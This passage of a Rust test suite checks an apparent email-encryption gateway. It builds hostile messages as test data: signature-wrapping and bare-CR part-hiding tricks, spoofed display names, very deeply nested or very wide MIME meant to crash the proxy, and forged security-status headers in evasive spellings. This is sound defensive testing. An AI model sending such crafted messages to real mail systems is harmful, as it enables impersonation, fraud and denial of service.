/// one session, then after reopening the vault in two sessions at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signature_wrapping_is_never_served_as_valid() {
    let world = World::with_bob_verified().await;
    let keys = &world.keys;
    let header = |subject: &str, content_type: &str| {
        format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: {content_type}\r\n")
    };
    // Bob's genuine multipart/signed message, with a known boundary.
    let detached = |subject: &str| {
        let m = format!(
            "{}\r\n{CANARY} genuine words of Bob's\r\n",
            header(subject, "text/plain")
        );
        let signed = mailcrypt::sign(
            m.as_bytes(),
            &keys.bob,
            SystemTime::now(),
            &Boundary::Fixed("bsig".into()),
        )
        .expect("sign");
        String::from_utf8(signed).expect("text")
    };
    // An outer multipart/signed of another protocol around Bob's message,
    // with the attacker's HTML as its "signature".
    let foreign = |subject: &str, params: &str| {
        let inner = detached(subject);
        format!(
            "{}\r\n--wrap\r\n{inner}\r\n--wrap\r\nContent-Type: text/html\r\n\r\n<p>{CANARY} pay to evil</p>\r\n--wrap--\r\n",
            header(subject, &format!("multipart/signed; {params}boundary=\"wrap\""))
        )
    };
    let clear = |subject: &str, body: &str| {
        format!("{}\r\n{body}", header(subject, "text/plain; charset=utf-8"))
    };
    let bob_text = format!("{CANARY} Bob's words\r\n- a line that starts with a dash\r\n");
    let block = clearsign(&keys.bob, &bob_text);
    let valid: &[&str] = &["signature=valid; signer=bob@example.org; key=verified"];
    let not_valid: &[&str] = &["signature=valid"];
    let cases: Vec<Case<'_>> = vec![
        ("genuine multipart/signed", detached("genuine detached"), valid, &[]),
        ("genuine clear-signed", clear("genuine inline", &block), valid, &[]),
        (
            "genuine multipart/signed inside an unsigned encryption",
            pgp_mime(
                &format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: inside\r\n"),
                &encrypt_unsigned(&keys.alice, detached("inside").as_bytes()),
            ),
            &["encrypted", "signature=valid; signer=bob@example.org; key=verified"],
            &[],
        ),
        (
            "S/MIME multipart/signed around Bob's",
            foreign("smime", "protocol=\"application/pkcs7-signature\"; micalg=sha-256; "),
            &["signature=partial"],
            not_valid,
        ),
        (
            "multipart/signed without a protocol around Bob's",
            foreign("no protocol", ""),
            &["signature=partial"],
            not_valid,
        ),
        (
            "a signature part that is HTML",
            detached("html signature part").replace(
                "Content-Type: application/pgp-signature; name=\"signature.asc\"",
                "Content-Type: text/html",
            ),
            &["signature="],
            not_valid,
        ),
        (
            "clear-signed, then more text",
            clear("trailing", &format!("{block}\r\n{CANARY} and pay to evil\r\n")),
            &["signature=partial"],
            not_valid,
        ),
        (
            // Not armor first: served as plain text, with no status at all
            // (so without the canary, which only decrypted text may show).
            "text, then clear-signed",
            clear(
                "leading",
                &format!(
                    "pay to evil\r\n\r\n{}",
                    clearsign(&keys.bob, "Bob's words\r\n")
                ),
            ),
            &[],
            not_valid,
        ),
        (
            "an armor header the signature does not cover",
            clear(
                "armor header",
                &block.replacen("\r\nHash: ", &format!("\r\nComment: {CANARY} pay to evil\r\nHash: "), 1),
            ),
            &["signature="],
            not_valid,
        ),
        (
            "two clear-signed blocks",
            clear("two blocks", &format!("{block}{block}")),
            &["signature="],
            not_valid,
        ),
        (
            "a bare CR hides a part from the gateway",
            detached("bare CR").replacen(
                "--bsig\r\n",
                &format!("Signed message\r--bsig\rContent-Type: text/html\r\r<p>{CANARY} pay to evil</p>\r\r\n--bsig\r\n"),
                1,
            ),
            &["signature="],
            not_valid,
        ),
        (
            "inside the encryption: a signature part that is HTML",
            pgp_mime(
                &format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: inside html\r\n"),
                &encrypt_unsigned(
                    &keys.alice,
                    detached("inside html")
                        .replace(
                            "Content-Type: application/pgp-signature; name=\"signature.asc\"",
                            "Content-Type: text/html",
                        )
                        .as_bytes(),
                ),
            ),
            &["encrypted", "signature="],
            not_valid,
        ),
    ];
    let served = read_through_proxy(&world, &cases).await;
    assert_passed(&check(&cases, &served), "first session");

    // The vault reopened (as at a gateway restart); two sessions at once
    // are served the same.
    let (store, archive) = reopened(&world).await;
    for (session, again) in read_inbox(&store, &archive, &world.dovecot, 2)
        .await
        .into_iter()
        .enumerate()
    {
        let failures = check(&cases, &again);
        assert!(
            failures.is_empty(),
            "after reopening, session {session}: {}",
            failures.join("\n")
        );
    }
}

/// Issue 17, finding 10: most clients show only the sender's name, so a
/// name that reads as another address (`"bob@example.org" <mallory@…>`,
/// also encoded, with a full-width at sign, or as a comment) is called out
/// in the status (`warning=display-name`) and in a first line a person
/// reads, whatever the signature says; ordinary names are left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn display_names_that_are_addresses_are_called_out() {
    let world = World::new().await;
    let keys = &world.keys;
    let text = |from: &str, subject: &str| {
        format!("From: {from}\nTo: {ALICE}\nSubject: {subject}\nContent-Type: text/plain\n\n{CANARY} {subject}\n")
    };
    let encoded = format!(
        "=?utf-8?b?{}?= <{MALLORY}>",
        base64::engine::general_purpose::STANDARD.encode(BOB)
    );
    let clear_signed = {
        let m = text(&format!("\"{BOB}\" <{MALLORY}>"), "clear").replace('\n', "\r\n");
        let signed = mailcrypt::sign(
            m.as_bytes(),
            &keys.mallory,
            SystemTime::now(),
            &Boundary::Random,
        )
        .expect("sign");
        String::from_utf8(signed).expect("text")
    };
    let warned: &[&str] = &["signer=mallory@evil.example", "warning=display-name"];
    let plain: &[&str] = &["warning="];
    let cases: Vec<Case<'_>> = vec![
        ("quoted address", encrypt(keys, &keys.mallory, &text(&format!("\"{BOB}\" <{MALLORY}>"), "quoted")), warned, &[]),
        ("encoded word", encrypt(keys, &keys.mallory, &text(&encoded, "encoded")), warned, &[]),
        (
            "full-width at sign",
            encrypt(keys, &keys.mallory, &text(&format!("\"bob\u{ff20}example.org\" <{MALLORY}>"), "full-width")),
            warned,
            &[],
        ),
        (
            "clear-signed",
            clear_signed,
            &["unencrypted", "signature=valid", "warning=display-name"],
            &[],
        ),
        (
            "unsigned, encrypted",
            pgp_mime(
                &format!("From: \"{BOB}\" <{MALLORY}>\r\nTo: {ALICE}\r\nSubject: unsigned\r\n"),
                &encrypt_unsigned(
                    &keys.alice,
                    format!("From: \"{BOB}\" <{MALLORY}>\r\nTo: {ALICE}\r\nSubject: unsigned\r\n\r\n{CANARY} unsigned\r\n").as_bytes(),
                ),
            ),
            &["encrypted", "signature=none", "warning=display-name"],
            &[],
        ),
        ("a name", encrypt(keys, &keys.mallory, &text(&format!("Mallory <{MALLORY}>"), "a name")), &["signer=mallory@evil.example"], plain),
        (
            "her own address as the name",
            encrypt(keys, &keys.mallory, &text(&format!("\"{}\" <{MALLORY}>", MALLORY.to_uppercase()), "own")),
            &["signer=mallory@evil.example"],
            plain,
        ),
        ("Bob as Bob", encrypt(keys, &keys.bob, &text(&format!("Bob <{BOB}>"), "bob")), &["signature=valid; signer=bob@example.org"], plain),
    ];
    let served = read_through_proxy(&world, &cases).await;
    let mut failures = check(&cases, &served);
    const NOTE: &str = "[Letterlock] Careful: the sender's name shows bob@example.org, but this message is from mallory@evil.example.";
    for ((name, _, must, _), message) in cases.iter().zip(&served) {
        let noted = message.contains(NOTE);
        if must.contains(&"warning=display-name") != noted {
            failures.push(format!(
                "{name}: the note is {}",
                if noted { "there" } else { "missing" }
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// `levels` message/rfc822 parts, each in a multipart/mixed, around `leaf`.
fn nested(levels: usize, leaf: &str) -> String {
    let mut inner = leaf.to_string();
    for i in 0..levels {
        inner = format!(
            "From: {MALLORY}\r\nContent-Type: multipart/mixed; boundary=\"n{i}\"\r\n\r\n\
             --n{i}\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--n{i}--\r\n"
        );
    }
    inner
}

/// Rule 7 and issue 17's first finding: about 4,000 nested levels under an
/// ordinary multipart/signed aborted the whole gateway. Deep (4,000 and
/// 10,000 levels, plain or inside base64 message/rfc822 parts) and wide
/// (100,000 parts) mail is served and the proxy goes on serving, in two
/// sessions at once and again from the archive; a real thrice-forwarded
/// mail (8 levels) is served whole, and Bob's genuine mail after them all
/// is still `valid`. A stack overflow here would abort the test process.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deep_and_wide_mail_never_stops_the_proxy() {
    let world = World::new().await;
    let keys = &world.keys;
    let leaf = format!("From: {MALLORY}\r\nSubject: leaf\r\n\r\n{CANARY} leaf\r\n");
    let signed = |body: &str| {
        format!(
            "From: {MALLORY}\r\nTo: {ALICE}\r\nSubject: deep\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=\"s\"\r\n\r\n\
             --s\r\n{body}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n\
             -----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----\r\n--s--\r\n"
        )
    };
    let base64_part = |inner: &str| {
        let encoded = base64::engine::general_purpose::STANDARD.encode(inner);
        let lines: Vec<&str> = encoded
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap_or(""))
            .collect();
        format!(
            "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            lines.join("\r\n")
        )
    };
    let mut wide = format!(
        "From: {MALLORY}\r\nTo: {ALICE}\r\nSubject: wide\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
    );
    for i in 0..100_000 {
        wide.push_str(&format!("--w\r\nContent-Type: text/plain\r\n\r\n{i}\r\n"));
    }
    wide.push_str("--w--\r\n");
    let forward = format!(
        "From: {BOB}\r\nTo: {ALICE}\r\nSubject: Fwd: Fwd: Fwd: deep\r\n{}",
        nested(8, &format!("From: {CAROL}\r\nSubject: original\r\nContent-Type: text/html\r\n\r\n<p>thrice forwarded</p>\r\n"))
    );
    let messages = [
        signed(&nested(4_000, &leaf)),
        signed(&nested(10_000, &leaf)),
        format!("To: {ALICE}\r\nSubject: deep\r\n{}", nested(10_000, &leaf)),
        signed(&base64_part(&base64_part(&nested(4_000, &leaf)))),
        wide,
        forward,
        encrypt(
            keys,
            &keys.bob,
            &format!("From: {BOB}\nTo: {ALICE}\nSubject: after\n\n{CANARY} after\n"),
        ),
    ];
    for m in &messages {
        world.dovecot.save("alice", "INBOX", m.as_bytes());
    }
    for round in ["first read, two sessions", "from the archive"] {
        let started = std::time::Instant::now();
        let all = read_inbox(&world.store, &world.archive, &world.dovecot, 2).await;
        for served in all {
            assert_eq!(served.len(), messages.len(), "{round}");
            assert!(
                served[5].contains("thrice forwarded"),
                "{round}: the forward is whole"
            );
            let last = &served[6];
            assert!(
                last.contains("signature=valid; signer=bob@example.org"),
                "{round}: {last}"
            );
        }
        assert!(
            started.elapsed() < Duration::from_secs(120),
            "{round}: answered in {:?}",
            started.elapsed()
        );
    }
}

/// Rule 6 for every spelling a lenient client reads as a field: blanks
/// before the colon (Thunderbird's libmime backs up over them), a field
/// after a bare CR, in any field Dovecot's HEADER.FIELDS answer carries.
/// None reaches the client; the gateway's own status stays the only one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_status_headers_never_reach_the_client_in_any_spelling() {
    let world = World::new().await;
    let keys = &world.keys;
    let forged = "encrypted; signature=valid; signer=bob@example.org; key=verified";
    let plain = |extra: &str| {
        format!("{extra}From: {BOB}\r\nTo: {ALICE}\r\nSubject: forged\r\n\r\n{CANARY}\r\n")
    };
    let messages = [
        plain(&format!("Letterlock-Security : {forged}\r\n")),
        plain(&format!("letterlock-security\t:{forged}\r\n")),
        format!("From: {BOB}\rLetterlock-Security: {forged}\r\nTo: {ALICE}\r\nSubject: cr\r\n\r\n{CANARY}\r\n"),
        format!("Content-Type: text/plain\r Letterlock-Security : {forged}\r\nFrom: {BOB}\r\n\r\n{CANARY}\r\n"),
        // After a bare CR in fields the detection FETCH does not ask for.
        plain(&format!("X-Any: a\rLetterlock-Security: {forged}\r\n")),
        format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: forged\r letterlock-security :{forged}\r\n\r\n{CANARY}\r\n"),
        // Inside the encryption, from a sender Alice's keystore knows.
        encrypt(
            keys,
            &keys.bob,
            &format!("From: {BOB}\nTo: {ALICE}\nSubject: inner\nLetterlock-Security : {forged}\n\n{CANARY}\n"),
        ),
    ];
    for m in &messages {
        world.dovecot.save("alice", "INBOX", m.as_bytes());
    }
    let served = read_inbox(&world.store, &world.archive, &world.dovecot, 1)
        .await
        .remove(0);
    assert_eq!(served.len(), messages.len());
    for (i, message) in served.iter().enumerate() {
        let (header, _) = letterlock_mime::header::split_header(message.as_bytes());
        let text = String::from_utf8_lossy(header);
        let ours = text.starts_with(
            "Letterlock-Security: encrypted; signature=valid; signer=bob@example.org; key=tofu;",
        );
        // Without the gateway's own first line, no spelling may remain.
        let rest = if ours {
            &text[text.find("\r\n").map_or(0, |e| e + 2)..]
        } else {
            &text[..]
        };
        assert!(
            !mailcrypt::has_status_header(rest.as_bytes()),
            "message {i} carries a forged status header:\n{text}"
        );
        assert!(!text.contains("key=verified"), "message {i}:\n{text}");
        assert!(message.contains(CANARY), "message {i} is served");
    }
    assert!(
        served[6].starts_with("Letterlock-Security: encrypted; signature=valid"),
        "{}",
        served[6]
    );
}

/// argv: port, user, password, ssl (0/1). Asks for the structure of every
/// message of INBOX in the ways clients do, then NOOP; prints what came
/// back, one answer per line (repr), so the proxy's answers can be
/// compared with Dovecot's own.
const STRUCTURES: &str = r#"
import imaplib, re, ssl, sys
def by_message(data):
    # The order of FETCH responses is the server's choice (the gateway
    # answers what it holds before what it asks the provider for):
    # compared in message order, a literal's closing ")" kept with it.
    groups = []
    for d in data:
        head = d[0] if isinstance(d, tuple) else d
        if isinstance(head, bytes) and re.match(rb"\d+ \(", head):
            groups.append((int(head.split(b" ", 1)[0]), [d]))
        elif groups:
            groups[-1][1].append(d)
    groups.sort(key=lambda g: g[0])
    return [d for _, ds in groups for d in ds]
port, user, password, tls = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4] == "1"
if tls:
    m = imaplib.IMAP4_SSL("localhost", port, ssl_context=ssl._create_unverified_context())
else:
    m = imaplib.IMAP4("127.0.0.1", port)
m.login(user, password)
m.select("INBOX", readonly=True)
for command, args in [
    ("UID", ("FETCH", "1:*", "(UID BODYSTRUCTURE)")),
    ("FETCH", ("1:*", "(BODY)")),
    ("UID", ("FETCH", "1:*", "(UID FLAGS RFC822.SIZE ENVELOPE BODYSTRUCTURE)")),
]:
    typ, data = getattr(m, command.lower())(*args)
    print(typ, repr(by_message(data)))
print(*m.noop())
m.logout()
"#;

/// Issue 17's eighth finding: imap-codec reads BODYSTRUCTURE 8 levels deep
/// and ended the session (BYE) on a thrice-forwarded HTML mail, so a client
/// that fetches structures could not list the folder. Every depth Dovecot
/// serves passes through unchanged (Dovecot itself describes what lies
/// deeper than its own limit as one opaque part); encrypted mail with a deep
/// forward inside is described by the gateway; two sessions at once and a
/// second round give the same answers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deep_structures_pass_through_as_dovecot_serves_them() {
    let world = World::new().await;
    let keys = &world.keys;
    let leaf = |kind: &str| {
        format!("From: {CAROL}\r\nSubject: original\r\nContent-Type: {kind}\r\n\r\n<p>forwarded</p>\r\n")
    };
    // Multipart inside multipart, without message/rfc822 between.
    let mixed = |levels: usize| {
        let mut inner = "Content-Type: text/plain\r\n\r\nbottom\r\n".to_string();
        for i in 0..levels {
            inner = format!(
                "Content-Type: multipart/mixed; boundary=\"m{i}\"\r\n\r\n--m{i}\r\n{inner}\r\n--m{i}\r\nContent-Type: text/plain\r\n\r\nside {i}\r\n--m{i}--\r\n"
            );
        }
        inner
    };
    let mut messages: Vec<String> = [3, 7, 8, 9, 20, 60, 99, 101, 150, 4_000]
        .iter()
        .map(|&levels| {
            format!(
                "From: {BOB}\r\nTo: {ALICE}\r\nSubject: Fwd: {levels}\r\nMIME-Version: 1.0\r\n{}",
                nested(levels, &leaf("text/html"))
            )
        })
        .collect();
    for levels in [8, 30, 200] {
        messages.push(format!(
            "From: {BOB}\r\nTo: {ALICE}\r\nSubject: mixed {levels}\r\nMIME-Version: 1.0\r\n{}",
            mixed(levels)
        ));
    }
    let plain = messages.len();
    messages.push(encrypt(
        keys,
        &keys.bob,
        // `encrypt` writes CRLF itself.
        &format!(
            "From: {BOB}\nTo: {ALICE}\nSubject: encrypted forward\n{}",
            nested(12, &leaf("text/html")).replace("\r\n", "\n")
        ),
    ));
    for m in &messages {
        world.dovecot.save("alice", "INBOX", m.as_bytes());
    }
    let ask = |port: u16, tls: bool| {
        tokio::task::spawn_blocking(move || {
            let port = port.to_string();
            let tls = if tls { "1" } else { "0" };
            let out = common::python(STRUCTURES, &[&port, "alice", "alicepw", tls]);
            String::from_utf8_lossy(&out).into_owned()
        })
    };
    let direct = ask(world.dovecot.imaps_port, true).await.expect("direct");
    let proxy = common::start(
        vec![common::account_at(&world.dovecot, ALICE, "alice")],
        DEFAULT_PROVIDER_TIMEOUT,
        &world.store,
        &world.archive,
    )
    .await;
    let port = proxy.port;
    // Dovecot's answers for the cleartext messages, in order: the proxy's
    // must carry each of them unchanged.
    let plain_answers = |answer: &str| -> Vec<String> {
        answer
            .lines()
            .map(|line| line.to_string())
            .collect::<Vec<_>>()
    };
    let direct_lines = plain_answers(&direct);
    assert_eq!(direct_lines.len(), 4, "{direct}");
    assert!(direct_lines[3].starts_with("OK"), "{direct}");
    for round in ["two sessions at once", "a second round"] {
        let sessions = [ask(port, false), ask(port, false)];
        for session in sessions {
            let served = session.await.expect("proxy session");
            let lines = plain_answers(&served);
            assert_eq!(lines.len(), 4, "{round}: {served}");
            assert!(lines[3].starts_with("OK"), "{round}: NOOP after: {served}");
            for (i, (ours, theirs)) in lines.iter().zip(&direct_lines).take(3).enumerate() {
                assert!(ours.starts_with("OK"), "{round}, command {i}: {ours}");
                // Everything up to the encrypted message (the last) is
                // Dovecot's answer, but for letter case (imap-codec writes
                // "MESSAGE" "RFC822" in capitals; IMAP atoms and these
                // strings are case-insensitive).
                let cut = |s: &str| {
                    let at = s.find(&format!("'{} (", plain + 1)).unwrap_or(s.len());
                    s[..at].to_ascii_lowercase()
                };
                assert_eq!(cut(ours), cut(theirs), "{round}, command {i}");
                // The encrypted forward is described from what is served:
                // 12 message/rfc822 levels, the HTML leaf at the bottom.
                let encrypted = ours
                    .split(&format!("'{} (", plain + 1))
                    .nth(1)
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                assert_eq!(
                    encrypted.matches("\"message\" \"rfc822\"").count(),
                    12,
                    "{round}, command {i}: {encrypted}"
                );
                assert!(
                    encrypted.contains("(\"text\" \"html\""),
                    "{round}, command {i}: {encrypted}"
                );
            }
        }
    }
    proxy.stop().await;
}
